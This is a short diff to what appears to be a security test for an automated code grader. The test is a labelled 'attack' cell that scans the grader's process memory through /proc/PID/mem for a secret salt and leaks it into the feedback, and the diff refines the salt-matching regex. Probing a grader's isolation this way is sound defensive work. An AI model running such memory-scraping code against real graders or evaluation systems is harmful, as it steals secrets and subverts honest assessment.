@@ -1,4 +1,5 @@
-# attack: the secret salt read out of the grading process's memory (/proc/PID/mem) into the feedback
+# attack: the grading process's memory read (/proc/PID/mem), and any course.yml text still in it (the
+#   secret salt) into the feedback
 # cells: dlogits
 # batch: walls
 import re
@@ -19,7 +20,8 @@ with open('/proc/%d/maps' % pid) as maps, open('/proc/%d/mem' % pid, 'rb', 0) as
             chunk = mem.read(high - low)
         except OSError:
             continue
-        found = re.search(rb'secret_salt: ([^\n\0]{4,120})', chunk)
+        # the grader holds this very cell's text too: its pattern is not a salt
+        found = [m.group(1) for m in re.finditer(rb'secret_salt: ([\w-]{4,120})', chunk)]
         if found:
-            leak('from the grader memory: ' + found.group(1).decode(errors='replace'))
+            leak('from the grader memory: ' + ' '.join(sorted({f.decode() for f in found}))[:300])
 proof('read the grader memory, salt not found')
